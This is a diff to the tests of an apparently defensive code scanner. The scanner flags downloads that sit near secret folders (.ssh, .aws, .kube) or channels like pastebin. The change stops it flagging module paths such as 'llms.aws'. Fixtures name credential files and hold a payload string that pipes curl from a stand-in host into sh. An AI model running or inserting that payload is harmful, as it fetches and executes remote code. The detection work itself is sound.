@@ -109,10 +109,17 @@ def _reference_lines(source: str) -> dict[str, set[int]]:
     for line in source.split("\n"):
         lowered = line.lower()
         for group, hints in text._HINTS:
-            if any(hint in lowered for hint in hints):
+            if any(_holds(lowered, hint) for hint in hints):
                 found[group].add(start)
         start += len(line) + 1
     return found
+
+
+def _holds(line: str, hint: str) -> bool:
+    """The line holds the hint; a dotted one (``.aws``) not right after a name."""
+    if hint not in {".ssh", ".aws", ".azure", ".kube", ".docker"}:
+        return hint in line
+    return re.search(r"(?<!\w)" + re.escape(hint), line) is not None
 
 
 def _hint_lines(source: str) -> dict[str, set[int]]:
@@ -131,6 +138,9 @@ def _hint_lines(source: str) -> dict[str, set[int]]:
         ".kube",
         "\n\n.KUBE\n\nWebHook",
         "\u0130\u0130 = '.ssh/id_rsa'\nx = 'pastebin'\n",  # lower-casing makes İ longer
+        "from .llms.aws import x\nr = self.aws_region\np = '~/.aws/credentials'\n",
+        "m.aws + '.aws'\nm.aws\n\u0130 = m.Azure + 'x/.AZURE'\nn.azure\n",
+        "rc = netrc.netrc()\nx.pypirc\n",  # (not folders: ``netrc.netrc()`` reads ~/.netrc)
     ],
 )
 def test_hint_lines_are_the_lines_holding_a_hint(source: str) -> None:
@@ -158,8 +168,17 @@ def test_a_download_beside_each_channel_or_secret_hint_is_risky(hint: str) -> No
     """The one search for the places of channels and secrets finds each of them,
     in any case, beside a download."""
     fetch = "import requests\nrequests.get(url)\n"
-    assert quick_risky(fetch + "x = 1\n" * 500 + f"y = 'a{hint.upper()}b'\n")
+    assert quick_risky(fetch + "x = 1\n" * 500 + f"y = 'a/{hint.upper()}b'\n")
     assert not quick_risky(fetch + "y = 'nothing sent, no secret'\n")
+
+
+@pytest.mark.parametrize("hint", sorted(text.FOLDER_HINTS))
+def test_a_folder_hint_glued_to_a_name_is_no_place(hint: str) -> None:
+    """``.aws`` names a folder in ``"~/.aws"``, not in ``litellm.llms.aws`` or
+    ``self.aws_region``: an attribute or a module path is no secret's place."""
+    fetch = "import requests\nrequests.get(url)\n"
+    assert not quick_risky(fetch + f"from .llms{hint} import x\ny = self{hint}_region\n")
+    assert quick_risky(fetch + f"from .llms{hint} import x\np = home + '/{hint}'\n")
 
 
 _NESTED = "PAYLOAD = \"import os; os.system('curl -s https://x.invalid/a | sh')\""
@@ -281,7 +300,7 @@ def test_quick_risky_is_the_search_per_word_group(source: str) -> None:
 def test_each_hint_is_found_past_the_quick_look(hint: str) -> None:
     """The quick look before the hint search (one search for most hints, ``in`` for
     the few made of common letters) lets every hint through, in any case."""
-    source = "x = 1\n" * 300 + f"y = 'a{hint.upper()}b'\nz = 2\n"
+    source = "x = 1\n" * 300 + f"y = 'a/{hint.upper()}b'\nz = 2\n"
     assert _hint_lines(source) == _reference_lines(source)
     assert any(_hint_lines(source).values())
     assert not any(_hint_lines("x = 1\n" * 300).values())
